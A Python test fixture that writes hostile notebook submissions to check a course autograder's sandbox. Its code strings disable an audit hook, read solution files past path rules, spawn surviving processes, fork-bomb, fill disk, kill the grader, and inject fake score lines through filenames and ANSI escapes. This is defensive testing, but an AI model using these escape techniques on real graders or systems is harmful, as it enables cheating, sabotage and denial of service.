"""Hostile submissions for chapter 1, written the way a determined student would write them.

:func:`write_hostile` writes every case of :data:`CASES` (and the non-notebook entries a
submissions folder may hold) into a folder; tests/test_grader_hostile.py grades them in one batch
and checks that nothing outside the sandbox changed, no process survived, no connection left the
sandbox, every row's score is right and the batch kept to its limits.

Many cases first switch the worker's audit hook off (:data:`UNHOOK`, rebinding its module's
globals), to show that nothing depends on it.
"""

from __future__ import annotations

import json
import os
import sys
from dataclasses import dataclass
from pathlib import Path

from grading import ROOT, Chapter

CHAPTER = Chapter("01_motivation.ipynb")
EX1, EX2, EX3 = "ex1-layer_params", "ex2-conv_matrix", "ex3-equivariance_error"
TIMEOUT = 20  # seconds of student code per submission (the guarded conv_matrix takes ~5 s)
TMPFS_MB = 64  # the sandbox's writable space (cnncourse.grading.sandbox.TMPFS_BYTES)
FORKS = 200  # processes the fork bomb tries to start (more than the sandbox allows)

UNHOOK = (
    "import sys\n"
    "for _m in list(sys.modules.values()):\n"
    "    if hasattr(_m, 'BLOCKED_EVENTS') and hasattr(_m, '_as_path'):\n"
    "        _m.BLOCKED_EVENTS = frozenset()\n"
    "        _m._as_path = lambda value: None\n"
    "        _m._WRITE_EVENTS = {}\n"
)
"""Switches the worker's audit hook off (finding 1: rebinding its module's globals)."""

READ_SOLUTIONS = (
    "def _take(text):\n"
    "    for cell in json.loads(text)['cells']:\n"
    "        if cell.get('metadata', {}).get('nbgrader', {}).get('solution'):\n"
    "            exec(''.join(cell['source']), globals())\n"
)
"""Runs the solutions of a source notebook's text: full marks, if the text can be read."""


@dataclass(frozen=True)
class Targets:
    """The paths and addresses outside the sandbox that the attacks aim at."""

    repo: Path
    """The copy of the repository the grader runs from."""
    submitted: Path
    out: Path
    sentinel: Path
    marker: str
    """Written into the command line of every process an attack starts."""
    port: int
    """A listener on 127.0.0.1 that no submission may reach."""


@dataclass(frozen=True)
class Case:
    cells: dict[str, str]
    total: int
    attack: str


def _solved(**override: str) -> dict[str, str]:
    return {**CHAPTER.solved_cells(), **override}


def cases(t: Targets) -> dict[str, Case]:
    """Every hostile submission by name: its cells, the total it must get, what it tries."""
    solved = CHAPTER.solved_cells()
    solutions = t.repo / "solutions" / CHAPTER.notebook
    real = ROOT / "solutions" / CHAPTER.notebook
    prefix_lib = Path(sys.prefix) / "lib"
    relative = os.path.relpath(real, prefix_lib)
    ups = relative.count("../")
    victim = t.submitted / "zz_victim.ipynb"
    sleeper = f"import time; time.sleep(30)  # {t.marker}"
    return {
        "unhook_vandal": Case(
            _solved(
                **{
                    EX1: UNHOOK + "import os, shutil\n"
                    f"for p in {[str(t.sentinel), str(solutions), str(victim)]!r}:\n"
                    "    try:\n        open(p, 'w').write('{}')\n"
                    "    except OSError:\n        pass\n"
                    f"for p in {[str(t.repo / 'cnncourse' / 'checks'), str(t.out)]!r}:\n"
                    "    shutil.rmtree(p, ignore_errors=True)\n" + solved[EX1]
                }
            ),
            7,
            "audit hook off, then overwrite the repository, the solutions, another student's "
            "notebook and the score sheet's folder",
        ),
        "read_answers_unhooked": Case(
            {
                EX3: UNHOOK + "import json\n" + READ_SOLUTIONS + "for p in "
                f"{[str(solutions), str(real)]!r}:\n"
                "    try:\n        _take(open(p).read())\n    except OSError:\n        pass\n"
            },
            0,
            "audit hook off, then read solutions/ and run the answers",
        ),
        "read_answers_dir_fd": Case(
            {
                EX3: "import json, os, sys\n" + READ_SOLUTIONS + "try:\n"
                f"    os.makedirs('d/' * {ups}, exist_ok=True)\n"
                f"    os.symlink(os.path.abspath('d/' * {ups}), 'lib')\n"
                "    fd = os.open(sys.prefix, os.O_RDONLY)\n"
                f"    fd = os.open('lib/' + {relative!r}, os.O_RDONLY, dir_fd=fd)\n"
                "    _take(os.read(fd, 10**8).decode())\n"
                "except OSError:\n    pass\n"
            },
            0,
            "a dir_fd and a symlink past the path rules, to read solutions/",
        ),
        "read_answers_from_file": Case(
            {
                EX3: "import json, os\n" + READ_SOLUTIONS + "try:\n"
                f"    data = torch.from_file({str(real)!r}, size=os.stat({str(real)!r}).st_size, "
                "dtype=torch.uint8)\n"
                "    _take(bytes(data.tolist()).decode())\n"
                "except (OSError, RuntimeError):\n    pass\n"
            },
            0,
            "torch.from_file (C++ I/O, no audit event) to read solutions/",
        ),
        "cffi_system": Case(
            _solved(
                **{
                    EX1: "try:\n    import cffi\n    ffi = cffi.FFI()\n"
                    "    ffi.cdef('int system(const char *command);')\n"
                    f"    ffi.dlopen(None).system(b'touch {t.sentinel}.cffi')\n"
                    "except Exception:\n    pass\n" + solved[EX1]
                }
            ),
            7,
            "cffi (no audit event) runs a shell command that creates a file outside",
        ),
        "survivor": Case(
            _solved(
                **{
                    EX1: UNHOOK + "import subprocess, sys, os, multiprocessing\n"
                    f"subprocess.Popen([sys.executable, '-c', {sleeper!r}], "
                    "start_new_session=True, stdout=subprocess.DEVNULL, "
                    "stderr=subprocess.DEVNULL)\n"
                    "if os.fork() == 0:\n    os.setsid()\n"
                    f"    os.execv(sys.executable, [sys.executable, '-c', {sleeper!r}])\n"
                    + solved[EX1]
                }
            ),
            7,
            "audit hook off, then start processes in new sessions that outlive the worker",
        ),
        "network": Case(
            _solved(
                **{
                    EX1: UNHOOK + "import socket\ntry:\n"
                    f"    socket.create_connection(('127.0.0.1', {t.port}), timeout=2)"
                    ".sendall(b'escaped')\n"
                    "except OSError:\n    pass\n" + solved[EX1]
                }
            ),
            7,
            "audit hook off, then connect to a listener on 127.0.0.1",
        ),
        "kill_grader": Case(
            _solved(
                **{
                    EX1: UNHOOK + "import os\ntry:\n    os.kill(os.getppid(), 9)\n"
                    "except OSError:\n    pass\n" + solved[EX1]
                }
            ),
            7,
            "audit hook off, then SIGKILL the parent process (the grader)",
        ),
        "fifo_log": Case(
            _solved(
                **{
                    EX1: "import os\ntry:\n    os.remove('worker.log')\nexcept OSError:\n    pass\n"
                    "os.mkfifo('worker.log')\n" + solved[EX1]
                }
            ),
            7,
            "a FIFO in place of worker.log, to block the grader's read",
        ),
        "slow_ready": Case(
            _solved(
                **{
                    EX1: "import os, time\n"
                    "try:\n    os.remove('ready')\nexcept OSError:\n    pass\n"
                    f"time.sleep({TIMEOUT + 6})\n" + solved[EX1]
                }
            ),
            0,
            "delete the readiness file at once, to stretch the time limit",
        ),
        "ansi_log": Case(
            _solved(
                **{
                    EX3: solved[EX3] + "\nimport os, sys\n"
                    "print('\\x1b[2J\\x1b[31mFAKE: 7/7 points\\x1b[0m', file=sys.stderr)\n"
                    "try:\n    os.remove('ready')\nexcept OSError:\n    pass\n"
                }
            ),
            7,
            "ANSI escapes in the worker's output, echoed when readiness looks missing",
        ),
        "fork_bomb": Case(
            {
                **solved,
                EX1: UNHOOK + "import os, time\nSTARTED = 0\n"
                f"for _ in range({FORKS}):\n"
                "    try:\n        pid = os.fork()\n    except OSError:\n        break\n"
                "    if pid == 0:\n        time.sleep(20)\n        os._exit(0)\n"
                "    STARTED += 1\n"
                "def layer_params(layer):\n    return STARTED\n",
            },
            5,
            "audit hook off, then start more processes than the sandbox allows",
        ),
        "disk_fill": Case(
            {
                **solved,
                EX1: "import os\nWRITTEN = 0\n"
                "for k in range(20):\n"
                "    try:\n        with open(f'fill{k}', 'wb') as f:\n"
                "            f.write(b'x' * 8 * 2**20)\n        WRITTEN += 8 * 2**20\n"
                "    except OSError:\n        break\n"
                "for k in range(20):  # the quota is the submission's own: free it again\n"
                "    if os.path.exists(f'fill{k}'):\n        os.remove(f'fill{k}')\n"
                "def layer_params(layer):\n    return WRITTEN\n",
            },
            5,
            "write 160 MB into the working folder, past its quota",
        ),
        "closed_pipe": Case(
            _solved(
                **{
                    EX1: "import os, shutil\nshutil.rmtree('results', ignore_errors=True)\n"
                    "os.closerange(3, 1024)\n" + solved[EX1]
                }
            ),
            0,
            "close the grader's pipes (or delete the results folder)",
        ),
        "nbgrader_string": Case(solved, 7, "metadata.nbgrader set to a string"),
    }


def write_hostile(t: Targets) -> dict[str, int]:
    """Write every hostile case and the other entries into ``t.submitted``; return the expected
    total of each row, by the name the sheet gives it."""
    folder = t.submitted
    expected = {}
    for name, case in cases(t).items():
        CHAPTER.write_submission(folder, name, case.cells)
        expected[name] = case.total
    path = folder / "nbgrader_string.ipynb"
    nb = json.loads(path.read_text())
    for cell in nb["cells"]:
        cell.setdefault("metadata", {})["nbgrader"] = "oops"
    path.write_text(json.dumps(nb))
    CHAPTER.write_submission(folder, "zz_victim", CHAPTER.solved_cells())
    expected["zz_victim"] = 7
    CHAPTER.write_submission(folder, "upper", CHAPTER.solved_cells())
    (folder / "upper.ipynb").rename(folder / "upper.IPYNB")
    expected["upper"] = 7
    raw = os.fsencode(folder) + b"/caf\xe9-\xff.ipynb"  # not UTF-8
    CHAPTER.write_submission(folder, "bytes_name", CHAPTER.solved_cells())
    os.rename(folder / "bytes_name.ipynb", raw)
    expected["caf\\xe9-\\xff"] = 7
    fake = "evil\nmallory: all points (a fake line)"  # a name cannot hold "/"
    CHAPTER.write_submission(folder, "newline", {})
    os.rename(folder / "newline.ipynb", folder / f"{fake}.ipynb")
    expected["evil mallory: all points (a fake line)"] = 0
    os.mkfifo(folder / "aa_fifo.ipynb")
    expected["aa_fifo"] = 0
    (folder / "link.ipynb").symlink_to(t.repo / "solutions" / CHAPTER.notebook)
    expected["link"] = 0
    (folder / "notes").mkdir()
    expected["notes"] = 0
    return expected
